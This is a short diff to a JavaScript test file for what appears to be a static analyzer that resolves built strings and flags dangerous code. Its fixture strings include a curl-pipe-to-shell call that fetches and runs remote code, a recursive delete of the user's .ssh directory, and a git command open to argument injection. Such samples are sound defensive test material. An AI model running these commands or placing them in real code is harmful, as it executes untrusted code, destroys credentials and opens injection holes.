@@ -33,6 +33,7 @@ describe("the evaluator folds one step of indirection, and more", () => {
     ["join", 'const v = ["phan", "giftshop.club"].join("@");', "phan@giftshop.club"],
     [
       "concat and template",
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: JavaScript source under test
       'const h = "evil"; const v = `https://${h}.tld`.concat("/x");',
       "https://evil.tld/x",
     ],
@@ -110,6 +111,7 @@ describe("code facts see built values", () => {
       'const cp = require("child_process"); const os = require("os"); const path = require("path");\n' +
         'cp.exec("curl -s " + ["https://x", "sh"].join(".") + " | sh");\n' +
         "require('fs').rmSync(path.join(os.homedir(), '.ssh'), { recursive: true });\n" +
+        // biome-ignore lint/suspicious/noTemplateCurlyInString: JavaScript source under test
         "cp.exec(`git log ${process.argv[2]}`);",
       "index.js",
     );
